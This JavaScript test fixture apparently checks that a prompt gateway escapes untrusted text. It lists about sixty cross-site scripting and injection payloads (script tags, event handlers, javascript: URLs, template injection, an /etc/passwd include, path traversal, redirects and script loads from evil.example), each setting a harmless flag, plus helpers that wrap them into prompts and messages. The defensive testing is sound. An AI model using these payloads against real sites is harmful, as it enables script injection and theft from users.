// Texts that would be markup, script or an address if a page trusted them. Each sets `__owned` where it is run.

const RUN = 'window.__owned=1';

export const HOSTILE = [
  `<script>${RUN}</script>`,
  `<script>window.__owned=1;alert(1)</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script/src=data:,${RUN}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`,
  `\` onmouseover=${RUN} \``,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<iframe srcdoc="<script>parent.__owned=1</script>">`,
  `<iframe src="javascript:parent.__owned=1">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<object data="javascript:${RUN}">`,
  `<form action=https://evil.example><button autofocus>x`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</select><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</pre></td></table><script>${RUN}</script>`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{% include "/etc/passwd" %}`,
  `javascript:${RUN}`,
  `data:text/html,<script>parent.__owned=1</script>`,
  `//evil.example/x`,
  `image/svg+xml`,
  `image/png" onerror="${RUN}`,
  `<div id="main" data-live data-refresh="1">x</div>`,
  `<form id=main><input name=action><input name=submit>`,
  `..`,
  `../../login?to=//evil.example`,
];

/** Whether a public name can hold it; the limit is that of the configuration, less the prefix. */
export const isName = (payload) => payload.length <= 128 - 'hostile__'.length;

/** A prompt that has the payload in each of its parts. */
export const asPrompt = (payload, name) => ({
  name,
  title: payload,
  description: payload,
  arguments: [{ name: payload, title: payload, description: payload, required: false }],
  _meta: { tags: [payload] },
});

/** Messages that have the payload in each part that may hold any text. */
export function asMessages(payload) {
  const contents = [
    { type: 'text', text: payload },
    { type: 'resource', resource: { uri: 'note://one', mimeType: 'text/plain', text: payload } },
    { type: 'resource_link', uri: 'note://two', name: payload, description: payload },
  ];
  return contents.map((content) => ({ role: 'user', content }));
}

/** Messages that the gateway refuses, since the payload is no base64. */
export const asImage = (payload) => [{ role: 'user', content: { type: 'image', mimeType: 'image/png', data: payload } }];
